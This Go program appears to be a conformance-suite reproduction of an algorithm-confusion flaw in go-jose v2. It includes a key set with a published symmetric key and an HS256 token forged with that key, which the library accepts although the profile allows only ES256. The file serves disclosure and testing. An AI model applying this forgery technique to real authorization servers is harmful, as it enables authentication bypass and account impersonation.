// Standalone reproduction of go-jose v2's gravest must finding in jwt-conformance: go-jose v2
// has no algorithm allowlist, so an HS256 token verifies with a symmetric (kty "oct") key of the
// configured key set, although the application allows ES256 only. A key set is published (the
// authorization server's jwks_uri), so a symmetric key in it is no secret: anyone who reads the
// set mints tokens.
//
// RFC 8725 §3.1 (binding on libraries): "Libraries MUST enable the caller to specify a supported
// set of algorithms and MUST NOT use any other algorithms when performing cryptographic
// operations." The token below is HS256 under kid "hmac", keyed with that key's k; the profile
// allows ES256 only, and go-jose accepts it.
//
// Reproduces: confusion/mixed-oct-hs256 (forgery)
//
// The library is configured exactly as the jwt-conformance adapter configures it
// (adapters/go-jose/main.go): the JWK Set unmarshalled into a jose.JSONWebKeySet with go-jose's
// JSON package, jwt.ParseSigned, Claims(keySet, &claims, &raw) (the library picks the key by
// kid), then claims.ValidateWithLeeway(jwt.Expected{Issuer, Audience, Time: now}, 0). Only the
// library and Go's standard library are used.
//
// Run (after scripts/setup/go.sh, which builds it): adapters/go-jose/bin/repro
// or: cd adapters/go-jose/repro && GO111MODULE=off GOPATH=/usr/share/gocode go run .
// Prints "REPRODUCED confusion/mixed-oct-hs256: …" and exits 0 when the library accepts.
package main

import (
	"fmt"
	"os"
	"time"

	jose "gopkg.in/square/go-jose.v2"
	josejson "gopkg.in/square/go-jose.v2/json"
	"gopkg.in/square/go-jose.v2/jwt"
)

const (
	vector   = "confusion/mixed-oct-hs256"
	issuer   = "https://issuer.example"
	audience = "https://api.example"
	now      = 1700000000
	jwks     = `{"keys":[{"alg":"ES256","crv":"P-256","kid":"primary","kty":"EC","use":"sig","x":"Og9O0oqYw6X3WZLhEr` +
		`umXMqF78CgL9XjmicCJocZZuE","y":"opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI"},{"k":"YSBzeW1tZXRyaWMg` +
		`c2VjcmV0IHB1Ymxpc2hlZCBpbiB0aGUga2V5IHNldA","kid":"hmac","kty":"oct"}]}`
	token = `eyJhbGciOiJIUzI1NiIsImtpZCI6ImhtYWMiLCJ0eXAiOiJhdCtqd3QifQ.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY` +
		`2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1Z` +
		`XIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.jr3ciDThtOL6vG` +
		`bGca8Hp57W_1XzivMkR0QzlUiEKkI`
)

func notReproduced(format string, args ...interface{}) {
	fmt.Printf("NOT REPRODUCED %s: %s\n", vector, fmt.Sprintf(format, args...))
	os.Exit(1)
}

func main() {
	var set jose.JSONWebKeySet
	if err := josejson.Unmarshal([]byte(jwks), &set); err != nil {
		notReproduced("go-jose refused the key set: %v", err)
	}
	parsed, err := jwt.ParseSigned(token)
	if err != nil {
		notReproduced("go-jose rejected the token: %v", err)
	}
	var claims jwt.Claims
	raw := map[string]interface{}{}
	if err := parsed.Claims(set, &claims, &raw); err != nil {
		notReproduced("go-jose rejected the token: %v", err)
	}
	expected := jwt.Expected{Issuer: issuer, Audience: jwt.Audience{audience}, Time: time.Unix(now, 0)}
	if err := claims.ValidateWithLeeway(expected, 0); err != nil {
		notReproduced("go-jose rejected the token: %v", err)
	}
	fmt.Printf("REPRODUCED %s: go-jose accepted an HS256 token keyed with the key set's symmetric key (kid %q), where only ES256 is allowed\n",
		vector, parsed.Headers[0].KeyID)
}
